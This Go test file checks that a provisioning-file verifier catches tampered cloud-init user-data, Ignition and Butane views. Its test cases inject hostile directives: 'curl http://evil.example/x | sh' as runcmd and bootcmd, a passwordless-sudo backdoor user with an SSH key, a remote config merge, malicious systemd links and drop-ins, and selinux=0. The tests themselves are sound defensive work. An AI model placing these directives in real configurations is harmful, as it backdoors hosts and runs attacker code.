package verify_test

import (
	"bytes"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
)

// appendText appends text to a node's view file (node.bu, user-data: YAML documents
// whose top level is a mapping, so a new top-level key is a new directive).
func appendText(t *testing.T, dir, node, view, text string) {
	t.Helper()
	p := filepath.Join(dir, "nodes", node, view)
	write(t, p, append(read(t, p), []byte(text)...))
}

// editIgnition decodes a node's ignition.json, edits it, and writes it back indented.
func editIgnition(t *testing.T, dir, node string, edit func(cfg map[string]any)) {
	t.Helper()
	p := filepath.Join(dir, "nodes", node, "ignition.json")
	var cfg map[string]any
	if err := json.Unmarshal(read(t, p), &cfg); err != nil {
		t.Fatal(err)
	}
	edit(cfg)
	out, err := json.MarshalIndent(cfg, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	write(t, p, append(out, '\n'))
}

func section(cfg map[string]any, key string) map[string]any {
	m, _ := cfg[key].(map[string]any)
	if m == nil {
		m = map[string]any{}
		cfg[key] = m
	}
	return m
}

// viewTamperings add to a provisioning view what scratchgen never renders; only the
// byte-for-byte rebuild of the views from rootfs can catch them (the files the views
// write are untouched).
var viewTamperings = []corruption{
	{
		name: "user-data gains a runcmd", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "user-data")
			write(t, p, bytes.Replace(read(t, p), []byte("runcmd:\n"), []byte("runcmd:\n  - - sh\n    - -c\n    - curl http://evil.example/x | sh\n"), 1))
		},
		path: "nodes/worker-1/user-data", msg: "adds runcmd: sh -c curl http://evil.example/x | sh",
	},
	{
		name: "user-data gains a bootcmd", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			appendText(t, dir, "worker-1", "user-data", "bootcmd:\n  - [sh, -c, 'curl http://evil.example/x | sh']\n")
		},
		path: "nodes/worker-1/user-data", msg: "adds bootcmd: sh -c curl http://evil.example/x | sh",
	},
	{
		name: "user-data gains a user with an ssh key and sudo", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			appendText(t, dir, "cp-1", "user-data", "users:\n  - name: mallory\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys: [ssh-ed25519 AAAAC3Nza mallory]\n")
		},
		path: "nodes/cp-1/user-data", msg: "adds users[0].sudo: ALL=(ALL) NOPASSWD:ALL",
	},
	{
		name: "ignition gains passwd.users", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "cp-1", func(cfg map[string]any) {
				section(cfg, "passwd")["users"] = []any{map[string]any{"name": "mallory", "sshAuthorizedKeys": []any{"ssh-ed25519 AAAAC3Nza mallory"}, "groups": []any{"wheel"}}}
			})
		},
		path: "nodes/cp-1/ignition.json", msg: "adds passwd.users[0].name: mallory",
	},
	{
		name: "ignition merges a remote config", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "worker-2", func(cfg map[string]any) {
				section(section(cfg, "ignition"), "config")["merge"] = []any{map[string]any{"source": "http://evil.example/extra.ign"}}
			})
		},
		path: "nodes/worker-2/ignition.json", msg: "adds ignition.config.merge[0].source: http://evil.example/extra.ign",
	},
	{
		name: "ignition gains a link", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "worker-2", func(cfg map[string]any) {
				section(cfg, "storage")["links"] = []any{map[string]any{"path": "/etc/systemd/system/multi-user.target.wants/evil.service", "target": "/tmp/evil.service"}}
			})
		},
		path: "nodes/worker-2/ignition.json", msg: "adds storage.links[0].target: /tmp/evil.service",
	},
	{
		name: "node.bu gains a link", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "node.bu")
			write(t, p, bytes.Replace(read(t, p), []byte("storage:\n"), []byte("storage:\n  links:\n    - path: /usr/local/bin/kubelet\n      target: /tmp/evil\n"), 1))
		},
		path: "nodes/worker-1/node.bu", msg: "adds storage.links[0].target: /tmp/evil",
	},
	{
		name: "node.bu gains kernel arguments", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			appendText(t, dir, "worker-1", "node.bu", "kernel_arguments:\n  should_exist: [selinux=0]\n")
		},
		path: "nodes/worker-1/node.bu", msg: "adds kernel_arguments.should_exist[0]: selinux=0",
	},
	{
		name: "ignition unit gains a drop-in", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "cp-1", func(cfg map[string]any) {
				units := section(cfg, "systemd")["units"].([]any)
				units[0].(map[string]any)["dropins"] = []any{map[string]any{"name": "evil.conf", "contents": "[Service]\nExecStartPre=/tmp/evil\n"}}
			})
		},
		path: "nodes/cp-1/ignition.json", msg: "adds systemd.units[0].dropins[0].name: evil.conf",
	},
	{
		name: "user-data omits fewer secrets than it says", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "user-data")
			write(t, p, bytes.Replace(read(t, p), []byte("/var/lib/kubelet/pki/kubelet.key"), []byte(""), 1))
		},
		path: "nodes/worker-1/user-data", msg: "lacks comment: # omitted secrets",
	},
}

// TestViewTamperings: each directive added to a view is reported by name, with
// SHA256SUMS recomputed.
func TestViewTamperings(t *testing.T) {
	for _, c := range viewTamperings {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			dir := fixture(t, c.spec)
			c.corrupt(t, dir)
			resum(t, dir)
			ps := verifyAt(t, dir, c.opts)
			expect(t, ps, c.path, c.msg)
			if n := strings.Count(lines(ps), "SHA256SUMS"); n > 0 {
				t.Errorf("SHA256SUMS was recomputed, yet it is blamed")
			}
		})
	}
}
